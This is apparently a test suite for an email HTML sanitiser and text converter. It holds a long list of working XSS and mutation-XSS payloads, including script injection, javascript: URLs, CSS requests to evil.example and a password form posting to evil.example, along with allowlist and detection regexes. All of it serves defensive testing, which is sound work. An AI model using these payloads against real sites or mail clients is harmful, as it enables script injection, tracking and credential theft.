import { expect } from 'chai';
import { textOfHtml } from '../../../src/platforms/email/html-to-text.ts';
import { sanitiseHtml } from '../../../src/platforms/email/sanitise-html.ts';

/** Ways into a page that were found over the years, in mail clients and elsewhere. */
const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"//>',
  '<img/src=x/onerror=alert(1)>',
  '<img src=`x` onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<img srcset="https://evil.example/a 1x" src="cid:a">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
  '<template><script>alert(1)</script></template>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code=x></applet>',
  '<base href="javascript:/a/"><a href="alert(1)">x</a>',
  '<base href="https://evil.example/"><a href="x">y</a>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/x)}</style>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<div style="background-image:\\75\\72\\6c(https://evil.example/x)">x</div>',
  '<div style="background:u\\rl(https://evil.example/x)">x</div>',
  '<div style="color:red;background:/**/url(javascript:alert(1))">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="behavior:url(#default#time2)">x</div>',
  '<div style="-moz-binding:url(https://evil.example/x.xml#y)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">over</div>',
  '<div style="margin-top:-500px">over</div>',
  "<div style=\"font-family:'x';background:url('https://evil.example')\">x</div>",
  '<div style="color:red&#59;background:url(https://evil.example/x)">x</div>',
  '<table background="https://evil.example/x"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<body background="https://evil.example/x" onload=alert(1)>x</body>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="blob:https://x/y">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/api/v1/logout">x</a>',
  '<a href="?x" ping="https://evil.example">x</a>',
  '<a href="https://ok.example" onclick=alert(1) target=_self rel=opener>x</a>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<input onfocus=alert(1) autofocus>',
  '<select onchange=alert(1)><option>x</option></select>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<x onclick=alert(1) contenteditable>x</x>',
  '<p id="__proto__" class="x" name="y" data-x="z">x</p>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<img src="cid:a" data-remote-src="javascript:alert(1)">',
  '<img src="cid:a&quot; onerror=&quot;alert(1)">',
  '<p title="&quot;><script>alert(1)</script>">x</p>',
  '<a title="x\'onmouseover=\'alert(1)" href="https://ok.example/\'onmouseover=\'alert(1)">x</a>',
  '\u003cimg src=x onerror=alert(1)\u003e',
  '<<img src=x onerror=alert(1)>>',
  '<img src=x onerror=alert(1)',
  '</p><script>alert(1)</script',
  '<div lang="x" dir="\'><script>alert(1)</script>">x</div>',
];

/** What remains is our own writing: every tag, attribute and value can be looked at. */
interface Tag {
  readonly name: string;
  readonly attributes: readonly (readonly [string, string])[];
}
function tagsIn(html: string): readonly Tag[] {
  return [...html.matchAll(/<([^>]*)>/g)].map(([, inside = '']) => {
    const [, name = ''] = /^\/?([a-z][a-z0-9]*)/.exec(inside) ?? [];
    const attributes = [...inside.matchAll(/\s([^\s=]+)="([^"]*)"/g)].map(
      ([, key = '', value = '']) => [key, value] as const,
    );
    const written = `${inside.startsWith('/') ? '/' : ''}${name}${attributes.map(([key, value]) => ` ${key}="${value}"`).join('')}`;
    expect(inside.replace(/ \/$/, ''), 'nothing but tags and attributes').to.equal(written);
    return { name, attributes };
  });
}

const allowedTags =
  /^(?:a|abbr|b|bdi|bdo|big|blockquote|br|caption|center|cite|code|col|colgroup|dd|del|dfn|div|dl|dt|em|font|h[1-6]|hr|i|img|ins|kbd|li|mark|ol|p|pre|q|s|samp|small|span|strike|strong|sub|sup|table|tbody|td|tfoot|th|thead|tr|tt|u|ul|var|wbr)$/;
const allowedAttributes =
  /^(?:href|title|rel|target|src|data-remote-src|alt|width|height|align|valign|bgcolor|border|cellpadding|cellspacing|colspan|rowspan|span|color|face|size|start|type|style|dir|lang)$/;

function checkSafe(html: string): void {
  for (const { name, attributes } of tagsIn(html)) {
    expect(name).to.match(allowedTags);
    for (const [key, value] of attributes) {
      expect(key).to.match(allowedAttributes);
      if (key === 'href') expect(value).to.match(/^(?:https?:\/\/|mailto:|tel:)/i);
      if (key === 'src') expect(value).to.match(/^(?:cid:|data:image\/(?:png|jpe?g|gif|webp);base64,)/i);
      if (key === 'data-remote-src') expect(value).to.match(/^https?:\/\//i);
      if (key === 'style')
        expect(value).to.not.match(/url|expression|import|position|behavior|binding|\\|\/\*|:\s*-\d/i);
      if (key === 'target') expect(value).to.equal('_blank');
      if (key === 'rel') expect(value).to.equal('noopener noreferrer nofollow');
    }
  }
  expect(html.replace(/<[^>]*>/g, '')).to.not.match(/[<>]/);
}

describe('sanitiseHtml', () => {
  for (const attack of attacks)
    it(`leaves nothing of ${JSON.stringify(attack).slice(0, 90)}`, () => {
      for (const html of [
        attack,
        `<p>${attack}</p>`,
        `<table><tr><td>${attack}`,
        `<div title="${attack}">x</div>`,
        attack.repeat(3),
      ]) {
        const { html: safe } = sanitiseHtml(html);
        checkSafe(safe);
        checkSafe(sanitiseHtml(safe).html);
      }
    });
  it('leaves nothing of any two of them together', () => {
    for (const one of attacks)
      for (const other of attacks) checkSafe(sanitiseHtml(`<p>${one}<b>${other}</b></p>`).html);
  });

  const kept: Record<string, string> = {
    '<p>Hello <b>you</b></p>': '<p>Hello <b>you</b></p>',
    '<p style="color: #f00; font-size: 12px; margin: 0 auto">x</p>':
      '<p style="color:#f00;font-size:12px;margin:0 auto">x</p>',
    '<a href="mailto:a@b.example">x</a>':
      '<a href="mailto:a@b.example" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    '<img src="cid:logo@x" alt="Logo" width=10>': '<img alt="Logo" width="10" src="cid:logo@x" />',
    '<img src="https://x.example/a.png?b=1&amp;c=2">':
      '<img data-remote-src="https://x.example/a.png?b=1&amp;c=2" />',
    '<img src="//x.example/a.png">': '<img data-remote-src="https://x.example/a.png" />',
    '<img src="https://x.example/pixel" width="1" height="1" alt="x">': '',
    '<img src="blob:x" alt="A cat">': '<img alt="A cat" />',
    '<table><tr><td colspan=2 bgcolor="#fff">a</td></tr></table>':
      '<table><tr><td colspan="2" bgcolor="#fff">a</td></tr></table>',
    '<p style="display:none">preview</p><p>x</p>': '<p>x</p>',
    'Fish &amp; chips &lt; 5 &euro;': 'Fish &amp; chips &lt; 5 €',
  };
  for (const [html, safe] of Object.entries(kept))
    it(`makes ${JSON.stringify(html)} what it should be`, () => {
      expect(sanitiseHtml(html).html).to.equal(safe);
    });
  it('says whether images lie elsewhere', () => {
    expect(sanitiseHtml('<img src="https://x.example/a.png">').hasRemoteImages).to.equal(true);
    for (const none of [
      '<img src="cid:a">',
      '<img src="https://x.example/a" width=1 height=1>',
      'data-remote-src="https://x"',
    ])
      expect(sanitiseHtml(none).hasRemoteImages, none).to.equal(false);
  });
  it('is no deeper than a browser likes', () => {
    const { html } = sanitiseHtml(`${'<div>'.repeat(5000)}x`);
    expect(html.match(/<div>/g)).to.have.length.within(1, 100);
    expect(html).to.include('x');
  });
});

describe('textOfHtml', () => {
  const texts: Record<string, string> = {
    '': '',
    '<p>Hello</p><p>you</p>': 'Hello\n\nyou',
    'one<br>two<br /><br>three': 'one\ntwo\n\nthree',
    '<div>a</div><div>b</div>': 'a\nb',
    '<ul><li>x</li><li>y</li></ul>': '- x\n- y',
    '<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>': 'a b\nc',
    '<a href="https://x.example/">x.example</a>': 'x.example',
    '<a href="https://x.example/y">here</a>': 'here (https://x.example/y)',
    '<a href="mailto:a@b.example">write</a>': 'write (a@b.example)',
    'a   b\n c': 'a b c',
    'a &lt;b&gt; &amp;amp; "c"': 'a <b> &amp; "c"',
    '<img src="cid:a" alt="A cat">': 'A cat',
  };
  for (const [html, text] of Object.entries(texts))
    it(`reads ${JSON.stringify(html)}`, () => {
      expect(textOfHtml(sanitiseHtml(html).html)).to.equal(text);
    });
});
